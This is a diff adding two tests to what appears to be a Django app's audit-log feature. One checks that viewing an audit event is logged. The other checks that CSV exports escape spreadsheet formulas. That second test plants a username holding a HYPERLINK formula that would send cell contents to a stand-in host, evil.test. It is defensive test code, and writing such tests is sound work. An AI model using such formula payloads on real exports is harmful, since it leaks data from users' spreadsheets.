@@ -177,3 +177,23 @@ def test_one_declaration_records_each_look_at_a_patient(signed_in_client, physic
     )
     signed_in_client.get(f"/chart/{PATIENT}/?missing=1")
     assert AuditEvent.objects.count() == before + 1  # a failed response records nothing
+
+
+def test_opening_an_event_is_itself_audited(privacy_client, trail):
+    failed = AuditEvent.objects.get(action="auth.sign_in_failed")
+    privacy_client.get(f"/audit/{failed.pk}/")
+    viewed = AuditEvent.objects.get(action="audit.event_viewed")
+    assert viewed.target_id == str(failed.pk)
+    assert viewed.actor_username == "privacy1"
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(privacy_client):
+    record(
+        actor=None,
+        username='=HYPERLINK("http://evil.test/?"&A2,"click")',
+        action="auth.sign_in_failed",
+        category="authentication",
+    )
+    response = privacy_client.get("/audit/export.csv?action=auth.sign_in_failed")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["actor_username"].startswith("'=HYPERLINK")
